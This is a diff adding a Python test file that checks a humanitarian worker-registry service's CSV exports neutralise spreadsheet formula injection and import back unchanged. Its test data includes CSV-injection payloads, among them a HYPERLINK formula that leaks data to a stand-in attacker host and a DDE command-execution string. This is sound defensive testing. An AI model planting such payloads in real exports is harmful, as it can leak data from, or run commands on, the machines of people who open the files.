@@ -1,0 +1,247 @@
+"""Exports carry no live spreadsheet formula (CWE-1236), on every CSV route, and the workers CSV
+reads back through the import: one column per value, named as the import names them."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+from collections.abc import Awaitable, Callable
+from pathlib import Path
+
+import httpx
+from fastapi import FastAPI
+
+from service.auth.permissions import Role
+from service.directory.models import OrgKind
+from service.exports.csv import FORMULA_START, chunks, neutralise, restore
+from tests.conftest import OrgFactory, TokenFactory, bearer, unique
+from tests.service.test_tasks import ZONE
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak=1","click")',
+    "+SUM(1,1)",
+    "@SUM(1)",
+    "=cmd|' /C calc'!A0",
+    "-2+3",
+]
+#: Text a spreadsheet reads as a formula after the whitespace it skips.
+HIDDEN = ["\t=1+1", "\r=1+1"]
+#: Columns written from numbers: they stay numbers, a negative one too.
+NUMERIC = {"lat", "lon", "accompanying_family", "version"}
+# Lisbon: a negative longitude.
+LISBON = {"lat": 38.7223, "lon": -9.1393}
+
+
+def read(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def assert_inert(rows: list[dict[str, str]]) -> None:
+    """No text cell starts a formula; numeric cells are plain numbers."""
+    for row in rows:
+        for column, value in row.items():
+            if column in NUMERIC:
+                if value:
+                    float(value)
+            else:
+                assert not value.startswith(FORMULA_START), (column, value)
+
+
+async def workers_in_zone(
+    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
+) -> tuple[list[dict[str, str]], str, set[str]]:
+    """Workers named with formulas, exported by the zone's CSV."""
+    token = await make_token(Role.ADMIN)
+    here = {"lat": LISBON["lat"] + 0.0001, "lon": LISBON["lon"] - 0.0001}
+    for name in FORMULAS:
+        registered = await client.post(
+            "/api/v1/workers",
+            json={
+                "nationality": "PHL",
+                "given_name": name,
+                "family_name": name,
+                "employer": name,
+                "location": here,
+                "source": "self",
+            },
+            headers=bearer(token),
+        )
+        assert registered.status_code == 201, registered.text
+    exported = await client.post(
+        "/api/v1/exposure/workers?format=csv",
+        json={"circle": {**here, "radius_m": 5}},
+        headers=bearer(token),
+    )
+    assert exported.status_code == 200, exported.text
+    rows = read(exported.text)
+    assert {r["given_name"] for r in rows} >= {"'" + f for f in FORMULAS}
+    assert all(float(r["lon"]) < 0 and not r["lon"].startswith("'") for r in rows)
+    return rows, exported.headers["content-type"], {"'" + f for f in FORMULAS}
+
+
+async def tasks(
+    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
+) -> tuple[list[dict[str, str]], str, set[str]]:
+    """Tasks titled and described with formulas, exported by the tasks CSV."""
+    coordinator = bearer(await make_token(Role.COORDINATOR))
+    org = await make_org(OrgKind.NATIONAL_SOCIETY, "MYS")
+    crisis = await client.post(
+        "/api/v1/crises",
+        json={"title": unique("Formula"), "hazard": "flood", "severity": "minor", "zones": ZONE},
+        headers=coordinator,
+    )
+    assert crisis.status_code == 201, crisis.text
+    for text in FORMULAS:
+        made = await client.post(
+            "/api/v1/tasks",
+            json={
+                "crisis_id": crisis.json()["id"],
+                "title": text,
+                "description": HIDDEN[len(text) % 2] + text,
+                "assignee_org": org,
+            },
+            headers=coordinator,
+        )
+        assert made.status_code == 201, made.text
+    exported = await client.get(
+        "/api/v1/tasks",
+        params={"crisis": crisis.json()["id"], "format": "csv"},
+        headers=coordinator,
+    )
+    assert exported.status_code == 200, exported.text
+    rows = read(exported.text)
+    assert {r["description"][:2] for r in rows} == {"'\t", "'\r"}
+    return rows, exported.headers["content-type"], {"'" + f for f in FORMULAS}
+
+
+Case = Callable[
+    [httpx.AsyncClient, OrgFactory, TokenFactory],
+    Awaitable[tuple[list[dict[str, str]], str, set[str]]],
+]
+#: How to put formulas into each CSV export. A CSV route without a case here fails the test.
+CASES: dict[tuple[str, str], Case] = {
+    ("POST", "/api/v1/exposure/workers"): workers_in_zone,
+    ("GET", "/api/v1/tasks"): tasks,
+}
+
+
+def csv_routes(app: FastAPI) -> set[tuple[str, str]]:
+    """Every route whose OpenAPI answer may be ``text/csv``."""
+    found = set()
+    for path, operations in app.openapi()["paths"].items():
+        for method, operation in operations.items():
+            answers = operation.get("responses", {}).values()
+            if any("text/csv" in a.get("content", {}) for a in answers):
+                found.add((method.upper(), path))
+    return found
+
+
+async def test_every_csv_route_neutralises_formulas(
+    app: FastAPI, client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
+) -> None:
+    routes = csv_routes(app)
+    assert routes == set(CASES), "a CSV route without a formula case: add one to CASES"
+    for route in sorted(routes):
+        rows, content_type, expected = await CASES[route](client, make_org, make_token)
+        assert content_type.startswith("text/csv"), route
+        assert rows, route
+        assert_inert(rows)
+        assert expected <= {v for r in rows for v in r.values()}, route
+
+
+def test_only_the_shared_writer_writes_csv() -> None:
+    """Nothing in the service writes CSV but ``service.exports.csv`` (and the demo's input
+    files): a route that writes its own would escape the rule even without declaring text/csv."""
+    root = Path(__file__).parents[2] / "service"
+    allowed = {root / "exports" / "csv.py", root / "synthetic.py"}
+    for path in root.rglob("*.py"):
+        tree = ast.parse(path.read_text())
+        for node in ast.walk(tree):
+            if (
+                isinstance(node, ast.Attribute)
+                and node.attr in {"writer", "DictWriter"}
+                and isinstance(node.value, ast.Name)
+                and node.value.id == "csv"
+            ):
+                assert path in allowed, f"{path.relative_to(root)} writes CSV itself"
+
+
+def test_the_writer_neutralises_text_and_keeps_numbers() -> None:
+    text = "".join(
+        chunks(
+            ["name", "lon", "count", "flag", "empty"],
+            [[f, -12.5, -3, True, None] for f in [*FORMULAS, *HIDDEN, "'=x", "Maria"]],
+        )
+    )
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0] == ["name", "lon", "count", "flag", "empty"]
+    assert [r[0] for r in rows[1:]] == [
+        *("'" + f for f in [*FORMULAS, *HIDDEN]),
+        "''=x",
+        "Maria",
+    ]
+    assert {tuple(r[1:]) for r in rows[1:]} == {("-12.5", "-3", "true", "")}
+    # What an import reads back is what was written.
+    assert [restore(r[0]) for r in rows[1:]] == [*FORMULAS, *HIDDEN, "'=x", "Maria"]
+    assert restore(neutralise("+63 912")) == "+63 912"
+
+
+def test_the_writer_streams_in_chunks() -> None:
+    parts = list(chunks(["n"], ([i] for i in range(1_201))))
+    assert len(parts) == 3 and "".join(parts).count("\n") == 1_202
+
+
+async def test_an_export_reads_back_through_the_import_and_changes_nothing(
+    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
+) -> None:
+    """The workers CSV has the import's columns (consent flags, lat and lon apart) and the
+    record's id: imported again, it creates nothing, anonymous records included."""
+    embassy = await make_org(OrgKind.EMBASSY, "MYS", represents="PHL")
+    token = await make_token(Role.CONSULAR_OFFICER, embassy)
+    # Somewhere in Penang nobody else uses.
+    here = {"lat": 5.3701, "lon": 100.2401}
+    people = [
+        {"document_number": unique("P"), "given_name": "=1+1", "phone": "+60123456789"},
+        {"given_name": unique("Ana"), "family_name": "Cruz", "birth_date": "1990-01-02"},
+        {},  # anonymous
+        {},  # anonymous, and the same as the one before: another person
+        {"languages": ["tl", "en"], "vulnerabilities": ["pregnant"], "sector": "care"},
+    ]
+    for extra in people:
+        registered = await client.post(
+            "/api/v1/workers",
+            json={
+                "nationality": "PHL",
+                "location": here,
+                "country": "MYS",
+                "source": "embassy_registration",
+                "consent": {"share_with_embassy": True, "share_with_humanitarian": True},
+                **extra,
+            },
+            headers=bearer(token),
+        )
+        assert registered.status_code == 201, registered.text
+    zone = {"circle": {**here, "radius_m": 5}, "nationality": "PHL"}
+    exported = await client.post(
+        "/api/v1/exposure/workers?format=csv", json=zone, headers=bearer(token)
+    )
+    rows = read(exported.text)
+    assert len(rows) == len(people)
+    header = set(rows[0])
+    assert {"share_with_embassy", "share_with_humanitarian", "lat", "lon"} <= header
+    assert not header & {"consent", "location", "documentation_status"}
+    assert {r["share_with_humanitarian"] for r in rows} == {"true"}
+    again = await client.post(
+        "/api/v1/workers/import",
+        files={"file": ("export.csv", exported.content, "text/csv")},
+        headers=bearer(token),
+    )
+    assert again.status_code == 200, again.text
+    result = again.json()
+    assert (result["created"], result["updated"], result["rejected"]) == (0, 0, 0), result
+    assert result["unchanged"] == len(people) and result["errors"] == []
+    after = await client.post(
+        "/api/v1/exposure/workers?format=csv", json=zone, headers=bearer(token)
+    )
+    assert read(after.text) == rows
